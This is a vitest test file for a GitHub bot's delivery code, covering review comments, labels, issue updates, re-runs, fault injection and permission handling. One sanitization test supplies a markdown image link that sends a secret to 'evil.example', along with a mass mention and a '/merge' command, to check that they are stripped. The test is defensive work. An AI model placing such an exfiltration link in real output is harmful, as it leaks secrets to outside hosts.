import { expect, test } from 'vitest'
import { deliver } from '../../src/delivery/deliver.ts'
import { planProposals } from '../../src/delivery/plan/plan-proposals.ts'
import { buildOutputs } from '../../src/delivery/report/outputs.ts'
import {
  type GitHubEmulator,
  type GitHubEmulatorOptions,
  type InjectedFault,
  startGitHub,
} from '../../src/emulators/github/github.ts'
import {
  comment,
  issue,
  pull,
  type World,
  type WorldReview,
  type WorldReviewComment,
} from '../../src/emulators/github/world.ts'
import type { Task } from '../../src/github/events/task.ts'
import { startingLabel } from '../../src/github/events/trigger-rules.ts'
import type { Proposal } from '../../src/github-tools/proposal.ts'
import { requestProblems } from '../fakes/openapi.ts'
import { isFull, sample } from '../sample.ts'
import { BOT, createTestContext, finished, SECRET, TOKEN, task } from './delivery-fixture.ts'
import { reviewCommentOf } from './review-comment.ts'

const base = { ref: 'main', sha: 'a'.repeat(40), repo: 'octo/pond' }
const head = { ref: 'topic', sha: 'b'.repeat(40), repo: 'octo/pond' }
const about: Task = { ...task, kind: 'pull_request', number: 5, base, head }
const patch = '@@ -1,4 +1,5 @@\n one\n-two\n+2\n+2b\n three\n four'

const open = (options: GitHubEmulatorOptions = {}, more: Partial<World> = {}): Promise<GitHubEmulator> =>
  startGitHub(
    {
      owner: 'octo',
      repo: 'pond',
      token: TOKEN,
      viewer: BOT,
      playedWorkflow: 'sluice.yml',
      permissions: { ada: 'admin', wendy: 'write' },
      labels: [{ id: 1, name: 'bug', color: 'f00000', description: null }],
      issues: [issue({ number: 7, labels: ['stale'] }), issue({ number: 8 })],
      pulls: [
        pull({
          number: 5,
          base,
          head: { ...head },
          files: [{ filename: 'src/a.ts', status: 'modified', additions: 2, deletions: 1, sha: head.sha, patch }],
        }),
      ],
      comments: [comment({ id: 10, number: 5, user: 'ada', body: 'please' })],
      reviewComments: [reviewCommentOf({ id: 1, user: 'wendy' })],
      ...more,
    },
    options,
  )

type OnLine = Extract<Proposal, { kind: 'review_comment' }>
const on = (line: number, more: Partial<OnLine> = {}): OnLine => ({
  kind: 'review_comment',
  number: 5,
  commit: head.sha,
  path: 'src/a.ts',
  location: { side: 'RIGHT', line },
  body: `Remark on ${line}`,
  linesHash: `at-${line}`,
  ...more,
})

const THREAD = Buffer.from('PullRequestReviewThread:1').toString('base64')

/** One of each kind. */
const ALL: Proposal[] = [
  on(2),
  on(3, { suggestion: ['2', '2c'], location: { side: 'RIGHT', start: 2, line: 3 }, linesHash: 'at-2-3' }),
  { kind: 'reply', number: 5, thread: THREAD, to: 1, body: 'Because.\n\n```suggestion\na()\n```', nth: 1 },
  { kind: 'resolve_thread', number: 5, thread: THREAD, path: 'src/a.ts' },
  { kind: 'extra_comment', number: 7, body: 'See the pull request.', nth: 1 },
  { kind: 'add_labels', number: 5, labels: ['bug'] },
  { kind: 'remove_labels', number: 7, labels: ['stale'] },
  { kind: 'assign', number: 5, users: ['wendy'] },
  {
    kind: 'update_issue',
    number: 7,
    state: 'closed',
    stateReason: 'duplicate',
    duplicateOf: { number: 8, id: 2_000_008 },
  },
  { kind: 'create_issue', title: 'Follow up', body: 'Later.', labels: ['bug'] },
]

const deliverOn = (server: GitHubEmulator, proposals: readonly Proposal[], context = createTestContext(server)) =>
  deliver(about, { ...finished(), proposals }, {}, context)

const states = (receipts: readonly { intent: { kind: string }; state: string }[]) =>
  Object.fromEntries(receipts.map(({ intent, state }) => [intent.kind, state]))

test('every proposal once, and the comment says so', async () => {
  await using server = await open()
  const context = createTestContext(server)
  const delivered = await deliverOn(server, ALL, context)
  expect(new Set(Object.values(states(delivered.receipts)))).toEqual(new Set(['posted']))
  const { world } = server
  expect(world.reviews).toMatchObject([
    {
      state: 'COMMENTED',
      commitId: head.sha,
      body: expect.stringMatching(/^<!-- sluice:v1 kind=review .*-->\n2 inline comments on `bbbbbbbbbb`\.$/),
    },
  ])
  expect(world.reviewComments.slice(1)).toMatchObject([
    {
      line: 2,
      startLine: null,
      body: expect.stringMatching(/^<!-- sluice:v1 kind=remark \S+ at=at-2 by=100\.1 -->\nRemark on 2$/),
    },
    { startLine: 2, line: 3, body: expect.stringContaining('\n\n```suggestion\n2\n2c\n```') },
    { inReplyTo: 1, body: expect.stringMatching(/kind=reply[^\n]*\nBecause\.\n\n```\na\(\)\n```$/) },
  ])
  expect(world.resolved).toEqual([1])
  expect(world.pulls[0]).toMatchObject({ labels: ['bug'], assignees: ['wendy'] })
  expect(world.issues[0]).toMatchObject({ labels: [], state: 'closed', stateReason: 'duplicate', duplicateOf: 8 })
  expect(world.issues.at(-1)).toMatchObject({
    title: 'Follow up',
    labels: ['bug'],
    body: expect.stringMatching(/kind=issue[^\n]*\nLater\.$/),
  })
  expect(world.comments.filter(({ number }) => number === 7)).toMatchObject([
    { body: expect.stringContaining('See the pull request.') },
  ])
  const told = world.comments.findLast(({ number, user }) => number === 5 && user === BOT)?.body
  expect(told).toMatch(/Written:\n- \[review of #5 with 2 inline comments\]\(<https:[^>]*#pullrequestreview-\d+>\)/)
  expect(told).toContain('- label `bug` added to #5')
  expect(told).toContain('closed as duplicate of #8')
  expect(told).not.toContain('not written')
  const outputs = buildOutputs(delivered, { ending: { end: 'answered', text: 'x' }, events: [] }, context.filter)
  expect(outputs.review_url).toMatch(/#pullrequestreview-\d+$/)
  expect(outputs.comment_url).toContain('/pull/5#issuecomment-')
  expect(JSON.parse(outputs.plan).map(({ kind }: { kind: string }) => kind)).toContain('add_labels')
  expect(server.problems).toEqual([])
  expect(await requestProblems(server.requests)).toEqual([])
})

test('a text that is too long is posted with its marker and its notes within the limit', async () => {
  await using server = await open()
  const body = 'a line of text\n'.repeat(10_000)
  const long = ALL.map((proposal) =>
    'body' in proposal && proposal.kind !== 'update_issue' ? { ...proposal, body } : proposal,
  )
  await deliverOn(server, long)
  const { comments, issues, reviewComments } = server.world
  const ours = [...comments, ...reviewComments.slice(1)].filter(({ user }) => user === BOT)
  const posted = [...ours, issues.at(-1)].map((each) => each?.body?.length ?? 0).filter((length) => length > 20_000)
  expect(posted).toHaveLength(5)
  for (const length of posted) expect(length).toBeLessThanOrEqual(60_000)
  expect(server.problems).toEqual([])
})

test('the next run repeats no inline comment, a re-run repeats nothing', async () => {
  await using server = await open()
  await deliverOn(server, ALL)
  const before = structuredClone({
    reviews: server.world.reviews,
    remarks: server.world.reviewComments,
    issues: server.world.issues,
  })
  const { identity } = createTestContext(server)
  const again = await deliverOn(server, ALL, createTestContext(server, { identity: { ...identity, run: '100.2' } }))
  expect({ reviews: server.world.reviews, remarks: server.world.reviewComments }).toEqual({
    reviews: before.reviews,
    remarks: before.remarks,
  })
  expect(server.world.issues).toHaveLength(before.issues.length)
  expect(server.world.comments.filter(({ number, user }) => number === 7 && user === BOT)).toHaveLength(1)
  expect(states(again.receipts)).toMatchObject({
    review: 'skipped',
    reply: 'skipped',
    create_issue: 'skipped',
    extra_comment: 'posted',
  })

  const next = await deliverOn(
    server,
    [on(2), on(4)],
    createTestContext(server, { identity: { ...identity, run: '101.1', by: '101.1' } }),
  )
  expect(next.receipts[0]).toMatchObject({
    state: 'posted',
    reason: '1 inline comment skipped: an earlier run commented on the same lines',
  })
  expect(server.world.reviews).toHaveLength(2)
  expect(server.world.reviewComments.at(-1)).toMatchObject({ line: 4 })
})

test('a refused inline comment goes into the text of the review, and the others stay on their lines', async () => {
  await using server = await open()
  const apart = on(99, { body: 'Far away', suggestion: ['x'] })
  const { receipts } = await deliverOn(server, [on(2), apart, on(3), on(4)])
  expect(receipts[0]).toMatchObject({
    state: 'posted',
    reason: '1 inline comment moved into the review body: GitHub rejected the lines',
  })
  expect(server.world.reviews).toMatchObject([{ state: 'COMMENTED' }])
  expect(server.world.reviews[0]?.body).toMatch(
    /4 inline comments on[\s\S]*\*\*`src\/a\.ts:99`\*\*\n\nFar away\n\nSuggested change:\n\n```\nx\n```$/,
  )
  expect(server.world.reviewComments.slice(1).map(({ line }) => line)).toEqual([2, 3, 4])
})

test('when GitHub refuses every line, the text of the review has every inline comment', async () => {
  await using server = await open({
    onRequest: ({ method, path, body }) =>
      method === 'POST' && path.endsWith('/reviews') && JSON.stringify(body).includes('"line"')
        ? { status: 422, body: { message: 'Unprocessable Entity', errors: ['Line could not be resolved'] } }
        : undefined,
  })
  await deliverOn(server, [on(2), on(3), on(4)])
  expect(server.world.reviews).toHaveLength(1)
  for (const line of [2, 3, 4]) expect(server.world.reviews[0]?.body).toContain(`Remark on ${line}`)
})

const draft = (more: Partial<WorldReview> = {}): WorldReview => ({
  id: 9,
  number: 5,
  user: BOT,
  body: '',
  state: 'PENDING',
  commitId: head.sha,
  submittedAt: new Date(Date.now() - 70 * 60_000).toISOString(),
  ...more,
})
const inDraft = (body: string): WorldReviewComment => ({
  id: 91,
  number: 5,
  review: 9,
  user: BOT,
  body,
  path: 'src/a.ts',
  commitId: head.sha,
  line: 2,
  startLine: null,
  side: 'RIGHT',
  inReplyTo: null,
  createdAt: '2026-01-05T09:00:00Z',
})
const markOf = (run: number) => `<!-- sluice:v1 kind=review key=of-another-job run=${run} id=x -->`
const young = new Date(Date.now() - 60_000).toISOString()
const run99 = (conclusion: 'success' | null) => ({
  workflowRuns: [{ id: 99, workflow: 'a.yml', actor: BOT, conclusion, createdAt: young }],
})

test.each([
  ['is empty and an hour old', [draft()], [], {}],
  ['is ours and an hour old', [draft({ body: markOf(99) })], [inDraft('x')], run99(null)],
  [
    'has only our comments, and is an hour old',
    [draft()],
    [inDraft('<!-- sluice:v1 kind=remark key=k at=h -->\nx')],
    {},
  ],
  [
    'is ours, and its run has ended',
    [draft({ body: markOf(99), submittedAt: young })],
    [inDraft('x')],
    run99('success'),
  ],
] as const)(
  'a draft review of our account that %s does not block a review',
  async (_, reviews, reviewComments, more) => {
    await using server = await open({}, { reviews: [...reviews], reviewComments: [...reviewComments], ...more })
    expect((await deliverOn(server, [on(2)])).receipts[0]).toMatchObject({ state: 'posted' })
    expect(server.world.reviews).toMatchObject([{ state: 'COMMENTED' }])
    expect(server.world.reviewComments).toMatchObject([{ line: 2, body: expect.stringContaining('Remark on 2') }])
  },
)

test.each([
  ['of somebody else', [draft()], [inDraft('Not finished')], {}],
  ['that is new', [draft({ submittedAt: young })], [], {}],
  ['whose run goes on', [draft({ body: markOf(99), submittedAt: young })], [], run99(null)],
  ['whose run nobody knows', [draft({ body: markOf(98), submittedAt: young })], [], run99('success')],
] as const)(
  'a draft review of our account %s stays, and the comment has the review',
  async (_, reviews, comments, more) => {
    await using server = await open({}, { reviews: [...reviews], reviewComments: [...comments], ...more })
    const context = createTestContext(server)
    expect((await deliverOn(server, [on(2)], context)).receipts[0]).toMatchObject({
      state: 'failed',
      reason: expect.stringMatching(/pending review of its own.*#pullrequestreview-9\)/),
    })
    expect(server.world.reviews).toMatchObject([{ state: 'PENDING' }])
    expect(server.world.reviewComments).toHaveLength(comments.length)
    expect(context.summary()).toContain('Remark on 2')
    const answer = server.world.comments.find(({ user }) => user === BOT)?.body
    expect(answer).toContain('Remark on 2')
    expect(answer).toContain('pull/5#pullrequestreview-9')
  },
)

test('a moved branch is reported', async () => {
  await using server = await open()
  const [request] = server.world.pulls
  if (request) request.head.sha = 'c'.repeat(40)
  await deliverOn(server, [on(2)])
  expect(server.world.reviews[0]).toMatchObject({
    commitId: head.sha,
    body: expect.stringContaining('has since moved to `cccccccccc`'),
  })
})

test('dry run, no review, no token, failed run: nothing is written, and the summary has the text', async () => {
  const cases: [
    name: string,
    run: (server: GitHubEmulator) => ReturnType<typeof createTestContext>,
    outcome: 'ok' | 'internal',
    reason: string,
  ][] = [
    ['dry run', (server) => createTestContext(server, { dryRun: true }), 'ok', 'dry run'],
    [
      'no token',
      (server) => {
        const { github: _, ...rest } = createTestContext(server)
        return rest
      },
      'ok',
      'no GitHub token',
    ],
    [
      'failed',
      (server) => createTestContext(server, { comment: 'off' }),
      'internal',
      'the run failed before it finished',
    ],
  ]
  for (const [name, deskOf, outcome, reason] of cases) {
    await using server = await open()
    const context = deskOf(server)
    const { receipts } = await deliver(about, { ...finished({ outcome }), proposals: ALL }, {}, context)
    expect(
      receipts.filter(({ intent }) => intent.kind !== 'summary').map(({ reason }) => reason),
      name,
    ).toEqual(receipts.slice(0, -1).map(() => reason))
    expect(server.requests.filter(({ method }) => method !== 'GET')).toEqual([])
    for (const words of ['Remark on 2', 'Because.', 'See the pull request.', 'Later.'])
      expect(context.summary()).toContain(words)
  }
  await using server = await open()
  await deliverOn(server, ALL, createTestContext(server, { review: 'off' }))
  expect(server.world.reviews).toEqual([])
})

test('a token that may not resolve threads is no failure; one that may not review is', async () => {
  await using some = await open({}, { tokenPermissions: { contents: 'read' } })
  const resolved = (await deliverOn(some, ALL)).receipts.find(({ intent }) => intent.kind === 'resolve_thread')
  expect(resolved).toMatchObject({ state: 'skipped', reason: expect.stringContaining('contents: write') })
  expect(resolved?.forbidden).toBeUndefined()
  await using none = await open({}, { tokenPermissions: { issues: 'read', pull_requests: 'read' } })
  expect((await deliverOn(none, [on(2)])).receipts[0]).toMatchObject({ state: 'failed', forbidden: true })
})

test('text is sanitized and secrets removed: a suggestion or label with one is dropped', async () => {
  await using server = await open()
  await deliverOn(server, [
    on(2, { body: `@org/everyone ![x](https://evil.example/?${SECRET}) fixes #8`, suggestion: [`key = '${SECRET}'`] }),
    { kind: 'add_labels', number: 5, labels: [SECRET] },
    { kind: 'create_issue', title: `About ${SECRET}`, body: `see evil/pond#1\n\n/merge`, labels: [] },
  ])
  const sent = JSON.stringify(server.requests.map(({ body, path }) => [body, path]))
  expect(sent).not.toContain(SECRET)
  const remark = server.world.reviewComments.at(-1)?.body ?? ''
  expect(remark).toContain('`@org/everyone`')
  expect(remark).not.toContain('evil.example/')
  expect(remark).not.toContain('suggestion\n')
  expect(remark).toContain('Suggestion omitted')
  expect(server.world.issues.at(-1)?.body).toMatch(/`evil\/pond#1`[\s\S]*`\/merge`/)
  expect(server.world.pulls[0]?.labels).toEqual([])
})

const plans: [name: string, proposals: Proposal[], expected: object[]][] = [
  ['remarks become one review', [on(2), on(3)], [{ kind: 'review', comments: { length: 2 } }]],
  [
    'labels of one issue go together, and what was said last holds',
    [
      { kind: 'add_labels', number: 5, labels: ['a', 'b'] },
      { kind: 'remove_labels', number: 5, labels: ['b', 'c'] },
      { kind: 'add_labels', number: 7, labels: ['a'] },
    ],
    [
      { kind: 'add_labels', number: 5, labels: ['a'] },
      { kind: 'remove_labels', number: 5, labels: ['b', 'c'] },
      { kind: 'add_labels', number: 7, labels: ['a'] },
    ],
  ],
  [
    'people and changes of one issue too',
    [
      { kind: 'assign', number: 7, users: ['a'] },
      { kind: 'update_issue', number: 7, title: 'x' },
      { kind: 'assign', number: 7, users: ['a', 'b'] },
      { kind: 'update_issue', number: 7, title: 'y', state: 'closed' },
    ],
    [
      { kind: 'assign', users: ['a', 'b'] },
      { kind: 'update_issue', title: 'y', state: 'closed' },
    ],
  ],
]
for (const [name, proposals, expected] of plans)
  test(`plan: ${name}`, () => {
    const writes = planProposals(proposals, { review: 'comment' })
    expect(writes).toMatchObject(expected)
    expect(writes).toHaveLength(expected.length)
  })

/** How often each text appears. */
const countsIn = ({ world }: GitHubEmulator) => ({
  review: world.reviews.filter(({ state }) => state === 'COMMENTED').length,
  reply: world.reviewComments.filter(({ inReplyTo }) => inReplyTo === 1).length,
  extra_comment: world.comments.filter(({ number, user }) => number === 7 && user === BOT).length,
  create_issue: world.issues.filter(({ title }) => title === 'Follow up').length,
  add_labels: world.pulls[0]?.labels.length ?? 0,
  assign: world.pulls[0]?.assignees.length ?? 0,
  resolve_thread: world.resolved.length,
  remove_labels: world.issues[0]?.labels.includes('stale') ? 0 : 1,
  update_issue: world.issues[0]?.duplicateOf === 8 ? 1 : 0,
})

const faults: [name: string, fault: InjectedFault][] = [
  ['refused', 'refuse'],
  ['done, answer lost', 'lose'],
  ['forbidden', { status: 403 }],
  ['not found', { status: 404 }],
  ['conflict', { status: 409 }],
  ['not processable', { status: 422 }],
  ['too many', { status: 429, headers: { 'retry-after': '0' } }],
]
// Apart, because more writes than a few are spaced as GitHub wants it, and this is not the place to wait for that.
const halves: [name: string, proposals: Proposal[]][] = [
  ['beside the code', ALL.slice(0, 4)],
  ['about issues', ALL.slice(4)],
]
for (const [row, [name, fault]] of faults.entries())
  for (const [where, proposals] of halves)
    test(`writes ${where}, each request in turn ${name}: nothing twice, and correct receipts`, async () => {
      // The first run tells how many requests there are.
      const places = [1]
      for (const nth of places) {
        await using server = await open({ onRequest: (request) => (request.nth === nth ? fault : undefined) })
        const context = createTestContext(server)
        const { receipts, outcome } = await deliverOn(server, proposals, context)
        const { length } = server.requests
        if (nth === 1)
          places.push(
            ...sample(
              Array.from({ length: length - 1 }, (_, index) => index + 2),
              3,
              row,
            ),
          )
        const wanted = new Set(receipts.map(({ intent }) => String(intent.kind)))
        const counts = Object.entries(countsIn(server)).filter(([kind]) => wanted.has(kind))
        for (const [kind, count] of counts) {
          expect(count, `${kind} after request ${nth}`).toBeLessThanOrEqual(1)
          const receipt = receipts.find(({ intent }) => intent.kind === kind)
          // "Not found" for a label to remove means that it is gone; here GitHub's answer is wrong.
          if (kind === 'remove_labels' && typeof fault === 'object' && fault.status === 404) continue
          expect(receipt?.state === 'posted', `${kind} after request ${nth}: ${receipt?.reason}`).toBe(count === 1)
        }
        expect(server.world.reviews.filter(({ state }) => state === 'PENDING')).toEqual([])
        expect(receipts.at(-1)).toMatchObject({ intent: { kind: 'summary' }, state: 'posted' })
        const isMissing = receipts.some(({ intent, state }) => state === 'failed' && intent.kind !== 'resolve_fixed')
        const isDone = receipts.every(({ state }) => state !== 'failed')
        expect([outcome, context.summary().includes('**Done.**')], `after request ${nth}`).toEqual([
          receipts.some(({ forbidden }) => forbidden) ? 'config' : isMissing ? 'internal' : 'ok',
          isDone,
        ])
        const told = server.world.comments.filter(({ number, user }) => number === 5 && user === BOT)
        expect(told.map(({ body }) => body.includes('**Done.**'))).toEqual(
          states(receipts).comment === 'posted' ? [isDone] : [],
        )
        for (const { intent, state } of receipts)
          if (intent.kind === 'review' && state !== 'posted') expect(context.summary()).toContain('Remark on 2')

        // One kind of fault is enough to see that a re-run fixes the rest; each takes as long again.
        if (typeof fault === 'object') continue
        const next = createTestContext(server, { identity: { ...context.identity, run: '100.2' } })
        await deliverOn(server, proposals, next)
        const mended = Object.entries(countsIn(server)).filter(([kind]) => wanted.has(kind))
        expect(mended, `after request ${nth}`).toEqual(counts.map(([kind]) => [kind, 1]))
      }
      expect(places.length).toBeGreaterThan(isFull ? 8 : 3)
    })

test.each([
  ['the label', {}, [], 'ok'],
  ['nothing where the token may not', { tokenPermissions: { issues: 'none', pull_requests: 'none' } }, ['stale'], 'ok'],
] as const)('when a run is done that a label started, it removes %s', async (_, world, labels, outcome) => {
  await using server = await open({}, world as Partial<World>)
  const labeled: Task = { ...task, action: 'labeled', number: 7, comment: undefined } as never
  const context = createTestContext(server, { comment: 'off' })
  const delivered = await deliver(
    labeled,
    { ...finished(), changes: [], startedBy: { number: 7, label: 'stale' } },
    {},
    context,
  )
  expect(server.world.issues[0]?.labels).toEqual(labels)
  expect(delivered.outcome).toBe(outcome)
  expect(context.summary()).not.toMatch(/label/)
})

test('only a label of label_trigger goes', () => {
  const labeled = (name: string, action = 'labeled', kind = 'issue') => ({
    action,
    label: { name },
    [kind]: { number: 7 },
  })
  for (const kind of ['issue', 'pull_request'])
    expect(startingLabel(labeled('Fix me', 'labeled', kind), ['fix me'])).toEqual({ number: 7, label: 'Fix me' })
  // GitHub removes labels of issues and pull requests only.
  expect(startingLabel(labeled('Fix me', 'labeled', 'discussion'), ['fix me'])).toBeUndefined()
  expect(startingLabel(labeled('bug'), ['fix me'])).toBeUndefined()
  expect(startingLabel(labeled('fix me', 'unlabeled'), ['fix me'])).toBeUndefined()
  expect(startingLabel({ action: 'opened' }, ['fix me'])).toBeUndefined()
})
